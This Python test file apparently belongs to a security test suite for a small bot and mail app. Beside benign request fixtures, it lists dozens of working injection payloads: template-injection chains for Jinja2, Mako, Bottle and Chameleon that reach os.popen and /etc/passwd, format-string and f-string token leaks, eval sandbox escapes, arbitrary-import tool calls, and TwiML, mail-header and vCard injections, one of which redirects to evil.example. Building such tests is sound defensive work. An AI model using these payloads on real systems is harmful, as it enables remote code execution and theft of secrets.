"""Bots, letters and pages of an agency."""

import hashlib
import hmac
import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fourteenth import (
    ESSAY,
    FOLK,
    GRUMBLE,
    HTML,
    LISTING,
    NOTES,
    PATTERN,
    SPOTS,
    api,
    bus,
    form,
    get,
    post,
    put,
    slack,
    telegram,
    url,
)

NEEDS = ()
TOKEN = "parlour-token-3381"
READERS = [{"name": "Siobhán O'Donoghue", "city": "Cork; west"}, {"name": "Bob {x}", "city": "50%"}]


def _subject(text: str, readers: object = READERS) -> dict[str, object]:
    return post("/campaign", subject=text, readers=readers)


def _pattern(text: str, name: str = "Pat O'Neill", **more: str) -> dict[str, object]:
    return post("/signature", pattern=text, name=name, **more)


def _call(name: str, arguments: object) -> dict[str, object]:
    return {"id": "call_2", "function": {"name": name, "arguments": json.dumps(arguments)}}


def _letter(text: str, **more: object) -> dict[str, object]:
    return post("/letter", letter=text, name="Pat O'Neill", city="Cork", total="12.5", **more)


def _signed(body: dict[str, object], secret: bytes = b"parlour-sign") -> dict[str, object]:
    text = json.dumps(body)
    sign = hmac.new(secret, ("1790000000" + text).encode(), hashlib.sha256).hexdigest()
    return url("POST", "/interactions", text, headers={"x-stamp": "1790000000", "x-sign": sign})


def _intent(name: str, **slots: str) -> dict[str, object]:
    made = {k: {"name": k, "value": v} for k, v in slots.items()}
    return {"version": "1.0", "session": {}, "request": {"type": "IntentRequest", "intent": {"name": name, "slots": made}}}  # fmt: skip


def _votes(**more: str) -> dict[str, object]:
    return post("/poll", votes=[{"name": FOLK[0], "choice": "it's A; B"}, {"name": "Bob", "choice": "C--"}], **more)  # fmt: skip


def _contact(**fields: str) -> dict[str, object]:
    return form("/contact", **{"name": "Pat", "email": "pat@example.com", "message": "Hi", **fields})


REQUESTS = {
    "welcome": [
        post(
            "/w",
            name=FOLK[2],
            items=[{"title": "Tea & cake -- 'deluxe'", "price": 3.5}],
            note="Write {{ name }} where the name goes",
        ),
        post("/w", name=HTML, note=GRUMBLE),
        post("/w", name="{Anna} 100%", items=[{"title": LISTING, "price": 1}]),
    ],
    "not_found": [
        url("GET", "/a/b c/it's-here.html"),
        url("GET", "/index.php?page=about&x=1;y"),
        url("GET", "/café/50%/~pat/(1)"),
    ],
    "not_found_value": [
        url("GET", "/docs/{{ page }}.html"),
        url("GET", "/tag/o'x & y"),
        url("GET", "/img/../css/a.css"),
    ],
    "campaign": [
        _subject("{{ name }}, your week in {{ city }} -- it's here!"),
        _subject(
            "{% if city == 'Cork; west' %}Hello Cork{% else %}Hi {{ name|title|truncate(9) }}{% endif %} {{ year }}"
        ),
        _subject("50% off: select & save (from {{ site.name }})"),
        _subject("Broken {{ name"),
    ],
    "campaign_boxed": [
        _subject("{{ name|upper }} & {{ city.split(';')[0] }}"),
        _subject("{{ name|wordcount }} & {{ nothing }}"),
        _subject("{% for c in city %}{{ c }}-{% endfor %}"),
        _subject("{% nothing %}"),
    ],
    "save_draft": [
        put("/drafts/{id}", {"id": "o'hara/1; x"}, text="Dear ${name},\n% if late:\nyou're late\n% endif\n"),
        put("/drafts/{id}", {"id": "d2"}, text=NOTES),
        put("/drafts/{id}", {"id": "../d3"}, text=HTML),
    ],
    "preview_draft": [
        api("POST", "/d", {"name": FOLK[1]}, ids={"id": "none"}),
        api("POST", "/d", {"name": "${x}"}, ids={"id": "it's"}),
        api("POST", "/d", ids={"id": "../../x"}),
    ],
    "certificate": [
        bus("Passed", course="Python 101: it's easy -- 50% theory", name="Pat {Paddy} O'Hara"),
        bus("Passed", course="SQL; select & join (advanced)", name=HTML),
        bus("Passed", course="C# / .NET & R$ budgeting", name=FOLK[4]),
    ],
    "certificate_value": [
        bus("Passed", course="Templates: ${name} and <% for %> in Mako", name=FOLK[0]),
        bus("Passed", course=NOTES, name="% of people"),
        bus("Passed", course="## comment\n<%doc>", name="a'b"),
    ],
    "card": [
        get("/card", name="{Pat} O'Hara", greeting="Céad míle fáilte"),
        get("/card", name=HTML, greeting="Hi & it's good -- 50% off"),
        get("/card", name="Table 5; window"),
    ],
    "menu": [
        post("/menu", title="Today's; 12-2", dishes=["Soup <b>du jour</b>", "Fish &amp; chips (it's $12)"]),
        post("/menu", title="Under $10 {today}", dishes=["Tea -- 50%", "<i>Crème</i> brûlée"]),
        post("/menu", title=FOLK[2], dishes=[]),
    ],
    "menu_value": [
        post("/menu", title="$5 menu", dishes=["Soup ${daily}", "<b>a</b>"]),
        post("/menu", title="it's", dishes=[LISTING]),
        post("/menu", title='"x"', dishes=list(FOLK)),
    ],
    "signature": [
        _pattern("{s.name} | {s.role}\n{company} -- it's us"),
        _pattern("Best, {s.name!s:>20}\n{{not a field}} 100%", role="Head of R&D; EMEA"),
        _pattern("Regards, {who}"),
        _pattern("half { brace"),
    ],
    "signature_plain": [
        _pattern("{name} -- {role}; it's {name!r}", name="{Pat}"),
        _pattern("{name} {phone}"),
        _pattern("{{x}} {name:>30}"),
        _pattern("{"),
    ],
    "status_line": [
        bus("Status", text="%(user)s has %(count)d items; it's 100%% ok", user="O'Hara"),
        bus("Status", text="on %(host)-12s: %(user)s", user="%(count)s", count=3),
        bus("Status", text="50% done", user="x"),
    ],
    "letter": [
        _letter("Dear {name},\nit's {total:.2f} EUR -- pay in {city}; thanks!"),
        _letter("{name.upper()!r:>30} {'gold' if total > 10 else 'basic'}"),
        _letter("No fields; 100% <b>plain</b> 'text' -- $5"),
        _letter("Dear {nam},"),
    ],
    "slash_named": [
        slack("/p", "echo it's; here -- <@U1> & `code`"),
        slack("/p", "count " + GRUMBLE),
        slack("/p", "shout __init__ please"),
        slack("/p", "sing O'Hara"),
    ],
    "slash": [
        slack("/p", "echo " + NOTES, "o'hara"),
        slack("/p", "_help_ x"),
        slack("/p", "help"),
        slack("/p", "count a; b"),
    ],
    "calc": [
        telegram("/calc 2*(3+4)-1,5"),
        telegram("/calc sqrt(2)*pi^2"),
        telegram("/calc 10 % 3 == 1"),
        telegram("/calc what's 5 plus 5?"),
        telegram("hello; it's me"),
    ],
    "calc_tree": [
        telegram("/calc 2*(3+4)"),
        telegram("/calc sqrt(16) + 2"),
        telegram("/calc 1/0"),
        telegram("/calc it's 5 & 6"),
    ],
    "remind": [
        slack("/remind", "me to call O'Brien; then rm -rf the branch in 5 minutes"),
        slack("/remind", "me to drop table 4's reservation -- really in 2 hours"),
        slack("/remind", GRUMBLE),
    ],
    "pattern_bot": [
        {"message": {"text": "what's the wifi? (a.b)*", "rules": {"wifi": "it's $1 \\1 -- x", "a.b": "c"}}},
        {"message": {"text": GRUMBLE, "rules": {"token": "\\g<0>", "[a-z]+": "x"}}},
        {"message": {"text": PATTERN, "rules": {}}},
    ],
    "interaction": [
        _signed(
            {
                "type": 2,
                "data": {"name": "play", "options": [{"name": "song", "value": "Don't Stop; Me Now"}]},
            }
        ),
        _signed({"type": 2, "data": {"name": "format", "options": [{"name": "code", "value": LISTING}]}}),
        _signed({"type": 2, "data": {"name": "x"}}, b"other"),
    ],
    "alexa": [
        {"version": "1.0", "session": {}, "request": {"type": "LaunchRequest", "locale": "en-GB"}},
        _intent("AddItem", item="fish & chips; two", list="mum's list"),
        _intent("Search", query="select all from <here>"),
    ],
    "twiml": [
        form("/voice", SpeechResult="I'd like to book a table -- for two; at 8", CallSid="CA1"),
        form("/voice", SpeechResult='my name is "O\'Hara", 50% sure', From="+353861234567"),
        form("/voice", SpeechResult="select menu option 3"),
        form("/voice", SpeechResult="fish & chips"),
    ],
    "twiml_built": [
        form("/voice", SpeechResult="fish & chips <b>"),
        form("/voice", SpeechResult="less than < five; & more >"),
        form("/voice", SpeechResult=FOLK[5]),
    ],
    "poll": [_votes(), _votes(by="name"), _votes(by="team.name"), _votes(by="shoe size")],
    "call_tool": [
        _call("textwrap.shorten", {"text": "it's a long; text -- " * 9, "width": 30}),
        _call("statistics.mean", [[1, 2, 3.5]]),
        _call("math.hypot", [3, 4]),
        _call("html.escape", [HTML]),
        _call("nothing.here", []),
    ],
    "call_listed": [
        _call("word_count", {"text": GRUMBLE}),
        _call("shorten", {"text": LISTING, "width": 20}),
        _call("send_mail", {"to": "o'hara@example.com"}),
        _call("shorten", {"size": 1}),
    ],
    "contact": [
        _contact(subject="It's urgent; re: order #5 -- 50%", message=GRUMBLE),
        _contact(
            name="Seán O'Neill (home)",
            email="o'neill+x@example.com",
            message="To: all\nBcc: none; just prose\n\n" + NOTES,
        ),
        _contact(name="王小明", subject='Ärger: "x" <y>', message=ESSAY[:2000]),
    ],
    "contact_built": [
        _contact(subject="It's (not) urgent; a, b", message=HTML),
        _contact(subject="Two\tparts: it's (a) & (b)", message="y"),
        _contact(name=FOLK[2], message=NOTES),
    ],
    "vcard": [
        post("/v", name="O'Hara; Siobhán", phone="+353 (86) 123-4567", note="call: after 5 -- it's best"),
        post("/v", name=FOLK[7], phone="0861234567,,12#", note=SPOTS[1]),
        post("/v", name="王小明", phone="tel:+1-555-0100;ext=5"),
    ],
    "mailto": [
        get("/m", to="o'hara+x@example.com", subject="Re: it's 50% & more?", body=NOTES),
        get("/m", to='"o\'x y"@example.com', body="a\r\nb"),
        get("/m", to="x@example.com"),
    ],
    "blog": [
        api("POST", "/blog", "title: It's 5 o'clock; somewhere\ntags: a, b -- c\n---\n" + NOTES),
        api("POST", "/blog", "title: x\n---\n" + HTML + "\n\n" + ESSAY[:4000]),
        api("POST", "/blog", "no head; only text: {{ x }}"),
    ],
}

ATTACKS = [
    Attack("template, jinja2", "not_found", url("GET", "/{{ site.token }}"), TOKEN),
    Attack("template, jinja2", "not_found", url("GET", "/{{ lipsum.__globals__.os.popen('echo pwn$((20+3))').read() }}"), "pwn23"),
    Attack("template, jinja2", "not_found", url("GET", "/x</code>{% for l in cycler.__init__.__globals__.__builtins__.open('/etc/passwd') %}{{ l }}{% endfor %}"), "root:x:0:0"),
    Attack("template, jinja2", "not_found", url("GET", "/{{self._TemplateReference__context.parent['site']|string}}"), TOKEN),
    Attack("template, jinja2", "campaign", _subject("{{ site['to'+'ken'] }}"), TOKEN),
    Attack("template, jinja2", "campaign", _subject("{{ reader.__class__.__init__.__class__.__base__.__subclasses__()|length > 90 }}{{ joiner.__init__['__glo'~'bals__'].os.sep*4 }}q"), "////q"),
    Attack("template, jinja2", "campaign", _subject("{% set p = namespace.__init__.__globals__.__builtins__.__import__('subprocess') %}{{ p.getoutput('expr 11 '+c+' 11') }}", [{"c": "+", "name": ""}]), '\\"22\\"'),
    Attack("template, jinja2", "campaign", _subject("{{ (dict|attr('\\x5f\\x5fmro\\x5f\\x5f'))[1]|attr('\\u005f_subclasses__') is callable and 'in' ~ 'side' }}"), "inside"),
    Attack("template, second order", "preview_draft", api("POST", "/d", {}, ids={"id": "evil"}), "root:x:0:0", before=[("save_draft", put("/d", {"id": "evil"}, text="${open('/etc/passwd').readline()}"))]),
    Attack("template, second order", "preview_draft", api("POST", "/d", {"cmd": "echo pwn$((31+1))"}, ids={"id": "e2"}), "pwn32", before=[("save_draft", put("/d", {"id": "e2"}, text="<%! import os %>\n<% out = os.popen(cmd).read() %>${out}"))]),
    Attack("template, mako", "certificate", bus("P", course="${self.module.cache.util.os.popen('echo pwn$((8*8))').read()}", name="x"), "pwn64"),
    Attack("template, mako", "certificate", bus("P", course="a\n% for l in open('/etc/passwd'):\n${l}\n% endfor\n", name="x"), "root:x:0:0"),
    Attack("template, mako", "certificate", bus("P", course="x ${__import__('sys').modules['app'].BOT_TOKEN}", name="x"), TOKEN),
    Attack("template, bottle", "card", get("/c", name="x", greeting="{{__import__('app').BOT_TOKEN}}"), TOKEN),
    Attack("template, bottle", "card", get("/c", name="x", greeting="\n% import os\n{{os.popen('echo pwn$((5*5))').read()}}\n"), "pwn25"),
    Attack("template, bottle", "card", get("/c", name="x", greeting="\n<%\nx = open('/etc/passwd').read()\n%>\n{{x}}\n"), "root:x:0:0"),
    Attack("template, chameleon", "menu", post("/m", title="x", dishes=["${open('/etc/passwd').readline()}"]), "root:x:0:0"),
    Attack("template, chameleon", "menu", post("/m", title="x", dishes=["<b tal:define=\"m import: app\">${m.BOT_TOKEN}</b>"]), TOKEN),
    Attack("template, chameleon", "menu", post("/m", title="x", dishes=["<?python import subprocess as s; r = s.getoutput('echo pwn$((6*9))') ?>${r}"]), "pwn54"),
    Attack("format", "signature", _pattern("{s.account.token}"), TOKEN),
    Attack("format", "signature", _pattern("{s.__init__.__globals__[BOT_TOKEN]}"), TOKEN),
    Attack("format", "signature", _pattern("{s.__class__.__init__.__globals__[loose].globals[site]!r:.200}"), TOKEN),
    Attack("format", "signature", _pattern("{s.account!r}"), "IE12-parlour-7720"),
    Attack("format, percent", "status_line", bus("S", text="%(token)s", user="x"), TOKEN),
    Attack("format, percent", "status_line", bus("S", text="100%% %(token)-40r", user="x"), TOKEN),
    Attack("Python, f-string", "letter", _letter("{BOT_TOKEN}"), TOKEN),
    Attack("Python, f-string", "letter", _letter("{__import__('os').popen('echo pwn$((70+7))').read()}"), "pwn77"),
    Attack("Python, f-string", "letter", _letter("{open('/etc/passwd').readline()!s}"), "root:x:0:0"),
    Attack("Python, f-string", "letter", _letter("{(lambda: [*pathlib.Path('/etc').glob('passw?')][0].read_text())()[:9]}"), "root:x:0:"),
    Attack("attribute", "slash_named", slack("/p", "_dump"), TOKEN),
    Attack("attribute", "slash_named", slack("/p", "__getattribute__ _dump"), "bound method Commands._dump"),
    Attack("Python, eval", "calc", telegram("/calc __import__('os').popen('echo pwn$((40+4))').read()"), "pwn44"),
    Attack("Python, eval", "calc", telegram("/calc open('/etc/passwd').readline()"), "root:x:0:0"),
    Attack("Python, eval", "calc", telegram("/calc [c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['popen']('head -n1 /etc/passwd').read()"), "root:x:0:0"),
    Attack("Python, eval", "calc", telegram("/calc __import__('a'+'pp').__dict__['BOT_'+'TOKEN']"), TOKEN),
    Attack("Python, eval", "calc", telegram("/calc exec('global pi; import app; pi=app.BOT_TOKEN') or pi"), TOKEN),
    Attack("XML, TwiML", "twiml", form("/v", SpeechResult="x</Say><Dial>+1900555</Dial><Say>"), "<Dial>+1900555"),
    Attack("XML, TwiML", "twiml", form("/v", SpeechResult="</Say><Redirect>http://evil.example/</Redirect><Say>"), '\\"Redirect\\"'),
    Attack("attribute", "poll", _votes(by="team.secret"), "parlour-team-4415"),
    Attack("attribute", "poll", _votes(by="team.__dict__"), "parlour-team-4415"),
    Attack("import", "call_tool", _call("os.getenv", ["PARTNER_URL"]), "http://"),
    Attack("import", "call_tool", _call("subprocess.getoutput", ["echo pwn$((50+5))"]), "pwn55"),
    Attack("import", "call_tool", _call("builtins.eval", ["__import__('app').BOT_TOKEN"]), TOKEN),
    Attack("import", "call_tool", _call("linecache.getline", ["/etc/passwd", 1]), "root:x:0:0"),
    Attack("import", "call_tool", _call("runpy.run_path", {"path_name": "/proc/self/cwd/app.py"}), "Parlour: bots"),
    Attack("mail header", "contact", _contact(subject="hi\nBcc: spam1@example.net, spam2@example.net"), "spam2@example.net"),
    Attack("mail header", "contact", _contact(email="x@y.example>\r\nCc: <victim@example.net"), "victim@example.net"),
    Attack("mail header", "contact", _contact(subject="x\n\nBuy now at evil.example\n"), "Buy now at evil.example"),
    Attack("lines, vCard", "vcard", post("/v", name="x\r\nTEL:+1900555", phone="1"), '\\"+1900555\\"'),
    Attack("lines, vCard", "vcard", post("/v", name="x", phone="1", note="n\u2028TEL:+1900777"), '\\"+1900777\\"'),
]  # fmt: skip
